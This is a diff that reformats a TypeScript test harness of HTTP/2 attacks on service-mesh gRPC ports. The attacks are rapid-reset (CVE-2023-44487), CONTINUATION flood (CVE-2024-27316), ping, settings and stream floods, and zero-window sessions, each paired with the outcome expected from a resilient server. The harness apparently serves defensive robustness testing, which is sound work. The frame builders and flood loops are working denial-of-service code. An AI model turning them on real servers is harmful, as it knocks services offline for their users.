@@ -7,11 +7,20 @@ import type { Socket } from 'node:net';
 
 /** Ports that speak HTTP/2, and the service behind each. */
 const grpcPorts: readonly { readonly port: Port; readonly service: Service }[] = [
-  { port: 'xds', service: 'pilot' }, { port: 'secure-xds', service: 'pilot' }, { port: 'ca', service: 'citadel' },
+  { port: 'xds', service: 'pilot' },
+  { port: 'secure-xds', service: 'pilot' },
+  { port: 'ca', service: 'citadel' },
 ];
 const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
 /** A frame (RFC 9113, 4.1). */
-function frame(type: number, { flags = 0, stream = 0, payload = Buffer.alloc(0) }: { readonly flags?: number; readonly stream?: number; readonly payload?: Buffer } = {}): Buffer {
+function frame(
+  type: number,
+  {
+    flags = 0,
+    stream = 0,
+    payload = Buffer.alloc(0),
+  }: { readonly flags?: number; readonly stream?: number; readonly payload?: Buffer } = {},
+): Buffer {
   const head = Buffer.alloc(9);
   head.writeUIntBE(payload.length, 0, 3);
   head.writeUInt8(type, 3);
@@ -25,43 +34,88 @@ const endHeaders = 4;
 const request = Buffer.from([0x83, 0x86, 0x84]);
 
 async function connected(mesh: Mesh, port: Port): Promise<Socket> {
-  const socket = port === 'xds' ? await tcp(mesh.place(port)) : await tls(mesh.place(port), { certificate: await mesh.certificate() });
+  const socket =
+    port === 'xds'
+      ? await tcp(mesh.place(port))
+      : await tls(mesh.place(port), { certificate: await mesh.certificate() });
   mesh.onClose(() => socket.destroy());
   socket.resume();
   return socket;
 }
-const write = (socket: Socket, bytes: Buffer): Promise<void> => new Promise((resolve) => {
-  if (socket.destroyed) return resolve();
-  const timer = setTimeout(resolve, 1000);
-  socket.write(bytes, () => (clearTimeout(timer), resolve()));
-});
+const write = (socket: Socket, bytes: Buffer): Promise<void> =>
+  new Promise((resolve) => {
+    if (socket.destroyed) return resolve();
+    const timer = setTimeout(resolve, 1000);
+    socket.write(bytes, () => (clearTimeout(timer), resolve()));
+  });
 type Flood = (i: number) => Buffer;
-const floods = (name: string, describe: string, { flood, count, chunk = 500 }: { readonly flood: Flood; readonly count: number; readonly chunk?: number }) => (port: Port, service: Service): Attack => ({
-  service, kind: 'http2', name: `${name} on ${port}`, describe,
-  run: async (mesh) => {
-    const socket = await connected(mesh, port);
-    await write(socket, Buffer.concat([preface, frame(settings)]));
-    for (let i = 0; i < count && !socket.destroyed; i += chunk) await write(socket, Buffer.concat(Array.from({ length: Math.min(chunk, count - i) }, (_, j) => flood(i + j))));
-  },
-});
+const floods =
+  (
+    name: string,
+    describe: string,
+    { flood, count, chunk = 500 }: { readonly flood: Flood; readonly count: number; readonly chunk?: number },
+  ) =>
+  (port: Port, service: Service): Attack => ({
+    service,
+    kind: 'http2',
+    name: `${name} on ${port}`,
+    describe,
+    run: async (mesh) => {
+      const socket = await connected(mesh, port);
+      await write(socket, Buffer.concat([preface, frame(settings)]));
+      for (let i = 0; i < count && !socket.destroyed; i += chunk)
+        await write(socket, Buffer.concat(Array.from({ length: Math.min(chunk, count - i) }, (_, j) => flood(i + j))));
+    },
+  });
 const ids = (i: number): number => 2 * i + 1;
 
 const kinds = [
   // CVE-2023-44487
   floods('50,000 streams reset at once', 'rapid resets: the connection ends or costs little, others are served', {
-    count: 50_000, flood: (i) => Buffer.concat([frame(headers, { flags: endHeaders, stream: ids(i), payload: request }), frame(rst, { stream: ids(i), payload: Buffer.from([0, 0, 0, 8]) })]),
+    count: 50_000,
+    flood: (i) =>
+      Buffer.concat([
+        frame(headers, { flags: endHeaders, stream: ids(i), payload: request }),
+        frame(rst, { stream: ids(i), payload: Buffer.from([0, 0, 0, 8]) }),
+      ]),
   }),
-  floods('200,000 pings', 'pings: the connection ends or costs little, others are served', { count: 200_000, chunk: 5000, flood: () => frame(ping, { payload: Buffer.alloc(8) }) }),
-  floods('200,000 empty settings', 'settings to acknowledge: the connection ends or costs little, others are served', { count: 200_000, chunk: 5000, flood: () => frame(settings) }),
+  floods('200,000 pings', 'pings: the connection ends or costs little, others are served', {
+    count: 200_000,
+    chunk: 5000,
+    flood: () => frame(ping, { payload: Buffer.alloc(8) }),
+  }),
+  floods('200,000 empty settings', 'settings to acknowledge: the connection ends or costs little, others are served', {
+    count: 200_000,
+    chunk: 5000,
+    flood: () => frame(settings),
+  }),
   // CVE-2024-27316 and its like
   floods('headers that never end', 'continuations without end: the connection ends, memory stays bounded', {
-    count: 20_000, chunk: 100, flood: (i) => (i === 0 ? frame(headers, { stream: 1, payload: request }) : frame(continuation, { stream: 1, payload: Buffer.from(`\x00\x03x-a\x7f\x81\x01${'a'.repeat(256)}`, 'latin1') })),
+    count: 20_000,
+    chunk: 100,
+    flood: (i) =>
+      i === 0
+        ? frame(headers, { stream: 1, payload: request })
+        : frame(continuation, {
+            stream: 1,
+            payload: Buffer.from(`\x00\x03x-a\x7f\x81\x01${'a'.repeat(256)}`, 'latin1'),
+          }),
   }),
-  floods('window updates of zero', 'a protocol error: the connection ends', { count: 1000, flood: () => frame(windowUpdate, { payload: Buffer.alloc(4) }) }),
-  floods('frames of unknown types', 'frames that nobody knows: ignored or refused, others are served', { count: 100_000, chunk: 5000, flood: (i) => frame(0x20 + i % 200) }),
+  floods('window updates of zero', 'a protocol error: the connection ends', {
+    count: 1000,
+    flood: () => frame(windowUpdate, { payload: Buffer.alloc(4) }),
+  }),
+  floods('frames of unknown types', 'frames that nobody knows: ignored or refused, others are served', {
+    count: 100_000,
+    chunk: 5000,
+    flood: (i) => frame(0x20 + (i % 200)),
+  }),
 ];
 const noise = (port: Port, service: Service): Attack => ({
-  service, kind: 'http2', name: `noise on ${port}`, describe: 'bytes that are not HTTP/2: the connection is closed within 10 s',
+  service,
+  kind: 'http2',
+  name: `noise on ${port}`,
+  describe: 'bytes that are not HTTP/2: the connection is closed within 10 s',
   run: async (mesh) => {
     const socket = await connected(mesh, port);
     socket.write(mesh.random.bytes(5000));
@@ -69,28 +123,66 @@ const noise = (port: Port, service: Service): Attack => ({
   },
 });
 const streams = (port: Port, service: Service): Attack => ({
-  service, kind: 'http2', name: `5,000 streams on one connection to ${port}`, describe: 'streams that are opened and left: bounded by the server, others are served', deadlineMs: 40_000,
+  service,
+  kind: 'http2',
+  name: `5,000 streams on one connection to ${port}`,
+  describe: 'streams that are opened and left: bounded by the server, others are served',
+  deadlineMs: 40_000,
   run: async (mesh) => {
     const socket = await connected(mesh, port);
     await write(socket, Buffer.concat([preface, frame(settings)]));
-    const path = Buffer.concat([request, Buffer.from([0x40 | 0, 12]), Buffer.from('content-type'), Buffer.from([16]), Buffer.from('application/grpc')]);
-    for (let i = 0; i < 5000 && !socket.destroyed; i += 500) await write(socket, Buffer.concat(Array.from({ length: 500 }, (_, j) => frame(headers, { flags: endHeaders, stream: ids(i + j), payload: path }))));
+    const path = Buffer.concat([
+      request,
+      Buffer.from([0x40 | 0, 12]),
+      Buffer.from('content-type'),
+      Buffer.from([16]),
+      Buffer.from('application/grpc'),
+    ]);
+    for (let i = 0; i < 5000 && !socket.destroyed; i += 500)
+      await write(
+        socket,
+        Buffer.concat(
+          Array.from({ length: 500 }, (_, j) =>
+            frame(headers, { flags: endHeaders, stream: ids(i + j), payload: path }),
+          ),
+        ),
+      );
   },
 });
 const unread = (port: Port, service: Service): Attack => ({
-  service, kind: 'http2', name: `100 sessions that read nothing on ${port}`, describe: 'windows of zero: memory stays bounded, others are served',
+  service,
+  kind: 'http2',
+  name: `100 sessions that read nothing on ${port}`,
+  describe: 'windows of zero: memory stays bounded, others are served',
   run: async (mesh) => {
     const { host, port: number } = mesh.place(port);
     const certificate = await mesh.certificate();
-    const sessions = await many(100, () => new Promise<ClientHttp2Session>((resolve, reject) => {
-      const session = connect(port === 'xds' ? `http://${host}:${number}` : `https://${host}:${number}`, { settings: { initialWindowSize: 0 }, rejectUnauthorized: false, key: certificate.key, cert: certificate.cert, servername: 'localhost' });
-      session.once('connect', () => resolve(session)).on('error', reject);
-    }));
+    const sessions = await many(
+      100,
+      () =>
+        new Promise<ClientHttp2Session>((resolve, reject) => {
+          const session = connect(port === 'xds' ? `http://${host}:${number}` : `https://${host}:${number}`, {
+            settings: { initialWindowSize: 0 },
+            rejectUnauthorized: false,
+            key: certificate.key,
+            cert: certificate.cert,
+            servername: 'localhost',
+          });
+          session.once('connect', () => resolve(session)).on('error', reject);
+        }),
+    );
     mesh.onClose(() => sessions.forEach((session) => session.destroy()));
-    for (const session of sessions) session.request({ ':method': 'POST', ':path': '/', 'content-type': 'application/grpc' }).on('error', () => {});
+    for (const session of sessions)
+      session.request({ ':method': 'POST', ':path': '/', 'content-type': 'application/grpc' }).on('error', () => {});
   },
 });
 
 /** HTTP/2 that no gRPC client speaks. */
-export const http2: readonly Attack[] = grpcPorts.flatMap(({ port, service }) => [...kinds.map((kind) => kind(port, service)), noise(port, service), streams(port, service), unread(port, service)])
+export const http2: readonly Attack[] = grpcPorts
+  .flatMap(({ port, service }) => [
+    ...kinds.map((kind) => kind(port, service)),
+    noise(port, service),
+    streams(port, service),
+    unread(port, service),
+  ])
   .map((row) => (row.name === '50,000 streams reset at once on secure-xds' ? { ...row, form: 'short' as const } : row));
